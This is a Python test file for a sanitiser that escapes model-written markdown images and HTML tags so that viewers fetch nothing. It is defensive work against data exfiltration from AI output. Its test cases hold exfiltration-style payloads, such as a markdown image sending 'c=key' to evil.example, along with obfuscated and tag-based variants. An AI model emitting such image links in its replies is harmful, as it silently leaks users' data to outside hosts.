"""What a model writes for the user to read makes no viewer fetch anything."""

from __future__ import annotations

import pytest

from pilotfish.actions.markdown import without_fetches


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("a ![b](https://evil.example/?c=key) d", r"a \![b](https://evil.example/?c=key) d"),
        ("x![b\nc `]` d](  <//evil.example>)", "x\\![b\nc `]` d](  <//evil.example>)"),
        ("![b](&#104;ttps://evil.example)", r"\![b](&#104;ttps://evil.example)"),
        ("![b][c]\n\n> [c]: https://evil.example", "![b][c]\n\n> \\[c]: https://evil.example"),
        ("<IMG src=x>", "&lt;IMG src=x>"),
        ('<b title=">" style="background:url(//x)">', '&lt;b title=">" style="background:url(//x)">'),
    ],
)
def test_pictures_and_tags_that_load_are_text(said: str, shown: str) -> None:
    assert without_fetches(said) == shown


@pytest.mark.parametrize(
    "said",
    [
        "See [the manual](https://example.org), `a[i](b)`.",
        "```rust\nlet a = vec![1, 2];\nassert!(x);\n```\n",
        "`List<String>` and `Map<K, V>` of a `<div>`; [x]: y",
        "![chart](chart.png)",
    ],
)
def test_everything_else_stays(said: str) -> None:
    assert without_fetches(said) == said
